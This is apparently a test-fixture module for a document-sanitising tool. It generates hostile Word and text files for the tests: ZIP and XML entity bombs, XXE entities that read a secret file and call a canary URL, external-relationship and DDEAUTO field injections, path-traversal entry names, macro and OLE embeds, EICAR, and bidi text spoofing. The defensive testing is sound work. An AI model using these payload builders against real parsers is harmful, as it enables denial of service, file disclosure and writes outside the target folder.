"""Hostile Word files and plain texts: bombs of ZIP and XML, calls to the outside, programs, signs that turn words."""

import io
import struct
import zipfile

from safeconduct.evidence import papers
from tests.hostile.files.kinds import EICAR, MARKER, PIXELS, Canary, Gallery

letters = Gallery()
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BODY = f"<w:document {WORD}><w:body>{{}}</w:body></w:document>"
MIB = 1024 * 1024


def letter(
    document: bytes | str = BODY.format("<w:p><w:r><w:t>words</w:t></w:r></w:p>"),
    **parts: bytes,
) -> bytes:
    """A Word file with this document; further parts by name, `/` written as two underscores and `.` as one."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        packed.writestr("word/document.xml", document)
        for name, content in parts.items():
            packed.writestr(name.replace("__", "/").replace("_", "."), content)
    return kept.getvalue()


def bombed(piece: bytes, mebibytes: int, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A document of so many MiB of a repeated piece, written without holding it."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", how) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        with packed.open("word/document.xml", "w") as part:
            for _time in range(mebibytes):
                part.write(piece * (MIB // len(piece)))
    return kept.getvalue()


@letters("letter of 60 MiB of spaces", "Damaged", heavy=True)
def spaces() -> bytes:
    return bombed(b" ", 60)


@letters("letter of 60 MiB, packed with bzip2", "Damaged", heavy=True)
def bzip2() -> bytes:
    return bombed(b" ", 60, how=zipfile.ZIP_BZIP2)


@letters("letter of 60 MiB, packed with LZMA", "Damaged", heavy=True)
def lzma() -> bytes:
    return bombed(b" ", 60, how=zipfile.ZIP_LZMA)


@letters("letter with a picture that would be 260 MiB", "Damaged")
def fat_picture() -> bytes:
    packed = bytearray(letter(word__media__image_bmp=b"\0" * 999))
    place = packed.rfind(b"PK\x01\x02") + 24
    packed[place : place + 4] = struct.pack("<I", 260 * MIB)
    return bytes(packed)


@letters("letter that says it is smaller than it is", "Damaged", heavy=True)
def lies_about_its_size() -> bytes:
    packed = bytearray(bombed(b" ", 60))
    for mark, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = packed.rfind(mark) + at
        packed[place : place + 4] = struct.pack("<I", 1000)
    return bytes(packed)


@letters("letter of 60,000 parts that are one part", "Damaged", PIXELS)
def overlapping() -> bytes:
    kept = io.BytesIO(letter())
    with zipfile.ZipFile(kept, "a") as packed:
        document = packed.getinfo("word/document.xml")
        for number in range(3_000):
            again = zipfile.ZipInfo(f"w{number}")
            for name in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(again, name, getattr(document, name))
            packed.filelist.append(again)
            packed.NameToInfo[again.filename] = again
        packed._didModify = True
    return kept.getvalue()


@letters("letter with letters in it, eight deep", PIXELS, heavy=True)
def nested() -> bytes:
    inner = bombed(b" ", 100)
    for _time in range(8):
        inner = letter(word__embeddings__a_docx=inner)
    return inner


ENTITIES = '<!DOCTYPE w [<!ENTITY a "{}">{}]>'.format(
    "ha" * 50, "".join(f'<!ENTITY {chr(98 + at)} "{f"&{chr(97 + at)};" * 10}">' for at in range(9))
)


@letters("letter with a thousand million laughs", "Damaged")
def laughs() -> bytes:
    return letter(ENTITIES + BODY.format("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>"))


@letters("the same in UTF-16, after a long comment", "Damaged")
def laughs_in_utf16() -> bytes:
    words = f'<?xml version="1.0" encoding="UTF-16"?><!--{"x" * 9000}-->{ENTITIES}' + BODY.format(
        "<w:p><w:r><w:t>&j;</w:t></w:r></w:p>"
    )
    return letter(words.encode("utf-16"))


@letters("letter that reads a file and an address by entities", "Damaged")
def outside_entities(canary: Canary) -> bytes:
    url = canary.url.decode()
    entities = f'<!ENTITY s SYSTEM "file://{canary.secret}"><!ENTITY u SYSTEM "{url}"><!ENTITY % p SYSTEM "{url}"> %p;'
    declared = f"<!DOCTYPE w [{entities}]>"
    return letter(declared + BODY.format("<w:p><w:r><w:t>&s;&u;</w:t></w:r></w:p>"))


RELATION = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@letters("letter whose template, picture, frame and chunk lie elsewhere", PIXELS)
def relations(canary: Canary) -> bytes:
    kinds = ("attachedTemplate", "image", "frame", "aFChunk", "oleObject", "hyperlink", "subDocument")
    lines = "".join(
        f'<Relationship Id="r{at}" Type="{OFFICE}/{kind}" Target="{where}" TargetMode="External"/>'
        for at, kind in enumerate(kinds)
        for where in (canary.url.decode(), f"file://{canary.secret}", r"\\127.0.0.1\share\x")
    )
    words = '<w:r><w:t>words</w:t><w:instrText> INCLUDETEXT "{}" DDEAUTO c:\\\\x </w:instrText></w:r>'
    drawn = f'<w:p>{words}</w:p><w:altChunk xmlns:r="{{}}" r:id="r3"/>'
    document = BODY.format(drawn.format(canary.secret, OFFICE))
    related = RELATION.format(lines).encode()
    return letter(document, word___rels__document_xml_rels=related, word___rels__settings_xml_rels=related)


@letters("letter with macros", "WithMacros")
def macros() -> bytes:
    return papers.docx("x", parts={"word/vbaProject.bin": MARKER})


@letters("letter with macros under another name", "WithMacros")
def hidden_macros() -> bytes:
    types = b'<Types><Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    return papers.docx("x", parts={"word/x.dat": MARKER, "[Content_Types].xml": types})


@letters("letter with a program in an OLE object", PIXELS)
def ole() -> bytes:
    return papers.docx("x", parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1MZ" + MARKER})


@letters("letter with EICAR as its words and as a part", PIXELS)
def eicar() -> bytes:
    document = BODY.format(f"<w:p><w:r><w:t>{EICAR.decode()}</w:t></w:r></w:p>")
    return letter(document, word__media__eicar_com=EICAR)


@letters("letter with a million tags in each other", PIXELS, "Damaged", "TooManyPages", heavy=True)
def deep() -> bytes:
    return letter(BODY.format("<w:p>" * 1_000_000 + "<w:t>x</w:t>" + "</w:p>" * 1_000_000))


@letters("letter with four million tags beside each other", PIXELS, "Damaged", "TooManyPages", heavy=True)
def flat() -> bytes:
    return letter(BODY.format("<a/>" * 4_000_000))


@letters("letter with a million attributes", PIXELS, "Damaged", "TooSlow", heavy=True)
def attributes() -> bytes:
    many = " ".join(f"a{number}=''" for number in range(1_000_000))
    return letter(BODY.format(f"<w:p {many}/>"))


@letters("letter of 19 MiB of words", "TooManyPages", "TooSlow", heavy=True)
def long_letter() -> bytes:
    return letter(BODY.format(f"<w:p><w:r><w:t>{'слово ' * 1_700_000}</w:t></w:r></w:p>"))


@letters("letter whose parts climb out of their folder", PIXELS)
def climbing() -> bytes:
    names = (
        "../../../../tmp/planted",
        "/tmp/planted",
        "C:\\planted",
        "word/../../planted",
        "\u202efdp.x",
        "CON",
        "x" * 5000,
    )
    return papers.docx("words", parts=dict.fromkeys(names, MARKER))


@letters("letter whose check sum is wrong", "Damaged")
def check_sum() -> bytes:
    packed = bytearray(letter())
    for mark, at in ((b"PK\x01\x02", 16), (b"PK\x03\x04", 14)):
        place = packed.rfind(mark) + at
        packed[place : place + 4] = b"evil"
    return bytes(packed)


@letters("letter that says it is locked", "Damaged")
def says_locked() -> bytes:
    packed = bytearray(letter())
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        packed[packed.rfind(mark) + at] |= 1
    return bytes(packed)


@letters("letter of which two are in one", "Damaged", PIXELS)
def twice() -> bytes:
    return letter() + letter()


@letters("app for a telephone that calls itself a letter", "Archive", PIXELS)
def app() -> bytes:
    return papers.docx(
        "words", parts={"AndroidManifest.xml": b"x", "classes.dex": b"dex\n035", "META-INF/MANIFEST.MF": b"x"}
    )


@letters("folder of files", "Archive")
def archive() -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as packed:
        packed.writestr("../../x.html", "<script>")
    return kept.getvalue()


@letters("EICAR as it stands", PIXELS)
def plain_eicar() -> bytes:
    return EICAR


@letters("text with control signs", "UnknownFile")
def control() -> bytes:
    return b"words \x1b]0;evil\x07 \x1b[2J \x08\x08 more words"


@letters("text that turns its words round", PIXELS)
def turned() -> bytes:
    return ("paid \u202e000,001 \u2066 EUR \u200f\u200e\u2069\u202d " * 50).encode()


@letters("text with a thousand marks on each letter", PIXELS, "TooManyPages", "TooSlow", "Damaged", heavy=True)
def marks() -> bytes:
    return ("a" + "\u0301\u0489\u20dd" * 1000 + "\n").encode() * 80


@letters("text of 24 MiB in one line", "TooManyPages", heavy=True)
def one_line() -> bytes:
    return b"a" * (24 * MIB)


@letters("text of 24 MiB of empty lines", "TooManyPages", "EmptyFile", heavy=True)
def no_words() -> bytes:
    return b"a" + b"\n" * (24 * MIB)


@letters("text as long as is taken", PIXELS, heavy=True)
def longest() -> bytes:
    return ("слово " * 12 + "\n").encode() * 6_900


@letters("text in half a pair of signs", "Damaged")
def half() -> bytes:
    return b"\xff\xfe" + b"\x00\xd8a\x00" * 500 + b"x"


@letters("text that is a program for the typesetter", PIXELS)
def typesetter(canary: Canary) -> bytes:
    return b'#read("%s") #image("%s") #import "@preview/x:0.1.0" #let f(x) = f(x) #f(1) #plugin("x") $ \\ ] ) }' % (
        canary.secret.encode(),
        canary.url,
    )


@letters("web page in UTF-16", PIXELS, "NotTaken")
def page_in_utf16() -> bytes:
    return '<!DOCTYPE html><script src="x"></script>'.encode("utf-16")
